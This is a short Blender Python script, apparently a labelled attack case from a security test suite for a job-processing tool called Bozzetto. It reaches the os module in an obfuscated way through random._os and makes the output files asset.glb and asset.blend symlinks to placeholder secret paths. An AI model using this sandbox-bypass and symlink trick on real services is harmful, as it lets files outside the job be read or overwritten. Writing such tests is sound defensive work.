# attack: asset.glb and asset.blend of the job's folder are links to files outside before Bozzetto writes them
# family: reports
import bpy
import random
from operator import attrgetter

os, = [get(random) for get in map(attrgetter, ["_os"])]
folder = "/tmp/job" if os.path.isdir("/tmp/job") else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.symlink("$SECRET_DIR/b-reports-06.glb", folder + "/asset.glb")
os.symlink("$SECRET_FILE", folder + "/asset.blend")
